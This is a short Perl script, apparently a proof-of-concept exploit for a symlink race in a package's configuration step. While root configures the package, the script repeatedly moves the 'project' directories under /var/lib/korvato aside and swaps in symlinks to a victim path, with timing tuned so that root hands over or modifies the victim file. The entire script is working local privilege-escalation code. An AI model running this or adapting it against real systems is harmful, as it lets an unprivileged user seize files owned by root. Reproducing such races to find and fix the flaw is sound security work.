# What somebody who has become the user korvato would try while the package is configured by root: whenever the folder
# "project" appears, a link to VICTIM takes its place, so that what is given away then is the victim. Between the tries
# the place is empty or the link. Ends when the file END is there.
#
#   perl swap_project.pl VICTIM END
use strict;
use warnings;

my ($victim, $end) = @ARGV;
my @places = map { "$_/project" } qw(/var/lib/korvato /var/lib/korvato.new);
my $taken = 0;
my $latest = time + 300;

until (-e $end || time > $latest) {
    for my $place (@places) {
        my $hold = 0.001;
        if (!-l $place && -d _) {
            rename $place, "$place.taken." . $taken++ or next;
            $hold = 0.05;    # seconds, longer than root takes for its next steps
        }
        if (symlink $victim, $place) { select undef, undef, undef, $hold; }
        unlink $place;
        # Some milliseconds of an empty place, in which root may find it so and make the folder.
        for (1 .. 3000) { last if -d $place; }
    }
}
print "$taken folders were taken\n";
